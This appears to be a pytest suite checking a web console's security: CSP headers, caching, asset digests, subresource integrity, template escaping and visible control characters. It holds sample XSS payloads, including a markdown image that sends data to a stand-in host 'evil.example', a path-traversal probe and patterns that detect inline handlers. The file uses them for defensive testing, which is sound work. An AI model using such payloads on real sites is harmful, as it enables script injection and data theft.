"""What holds for every page: its policy, its assets, and that what others wrote is only text."""

import hashlib
import re

import pytest

from services.console.web.assets import STATIC, assets
from services.console.web.pages import TEMPLATES, pretty, visible

VENDOR = STATIC / "vendor"
HOSTILE = "<script>alert(1)</script><img src=x onerror=alert(1)> ![x](http://evil.example/?d=1)"


@pytest.mark.parametrize("path", ["/sign-in", "/runs", "/nowhere"])
async def test_every_page_forbids_scripts_and_styles_that_are_not_ours(browser, path):
    answer = await browser.see(path)

    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'; script-src 'self'; style-src 'self'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy


async def test_what_does_not_change_is_kept_and_what_is_of_people_is_not(browser):
    page = await browser.see("/runs")
    url = assets()["console.css"].url

    assert page.headers["cache-control"] == "no-store"
    assert "immutable" in (await browser.see(url)).headers["cache-control"]
    assert (await browser.see("/assets/../../settings.py")).status_code == 404


def test_vendored_files_are_those_that_are_written_down():
    written = dict(
        re.findall(r"\| `([^`]+)` .*`([0-9a-f]{64})` \|", (VENDOR / "README.md").read_text())
    )
    found = {
        path.name: hashlib.sha256(path.read_bytes()).hexdigest()
        for path in VENDOR.iterdir()
        if path.suffix in (".js", ".css")
    }

    assert found == written


async def test_every_script_and_sheet_is_held_to_its_digest(browser):
    text = (await browser.see("/runs")).text

    loaded = re.findall(r"<(?:script|link rel=\"stylesheet\")[^>]*>", text)

    assert len(loaded) >= 3
    assert all('integrity="sha384-' in one for one in loaded)


@pytest.mark.parametrize("path", sorted(TEMPLATES.glob("*.html")), ids=lambda one: one.name)
def test_no_template_has_a_script_a_style_or_a_handler_of_its_own(path):
    text = path.read_text(encoding="utf-8")

    assert not re.search(r"<script(?![^>]* src=)", text)
    assert not re.search(r"\sstyle=|<style|\son[a-z]+=|hx-on|javascript:", text)
    assert not re.search(r"\|\s*safe\b|Markup|autoescape", text), "everything is escaped"


def test_characters_that_hide_or_turn_text_are_named():
    assert visible("a\u202eb\x1b[31mc\nd") == "a[U+202E]b[U+001B][31mc\nd"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('{"amount":129.90,"n":10000000000000000000001}', "129.90"),
        ('{"amount":129.90,"n":10000000000000000000001}', "10000000000000000000001"),
        ('{"text":"1.0"}', '"1.0"'),
        ("no json", "no json"),
        ("[" * 100_000, "["),
    ],
)
def test_json_is_laid_out_and_its_values_stay_as_they_were_written(text, shown):
    assert shown in pretty(text)
